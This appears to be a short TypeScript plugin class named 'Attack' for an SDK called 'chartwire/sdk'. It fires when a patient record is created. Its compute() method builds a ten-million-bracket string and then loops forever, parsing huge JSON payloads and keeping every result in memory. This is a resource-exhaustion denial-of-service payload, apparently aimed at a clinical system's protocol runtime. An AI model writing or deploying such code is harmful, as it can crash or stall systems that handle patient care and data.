// A small text that JSON makes large.

import { BaseProtocol, EventType } from 'chartwire/sdk';

export class Attack extends BaseProtocol {
  static override readonly RESPONDS_TO = [EventType.PATIENT_CREATED];

  compute() {
    const deep = '['.repeat(5_000_000) + ']'.repeat(5_000_000);
    const kept: unknown[] = [];
    while (true) kept.push(JSON.parse(`[${'{"a":{}},'.repeat(300_000)}0]`), JSON.parse(deep));
  }
}
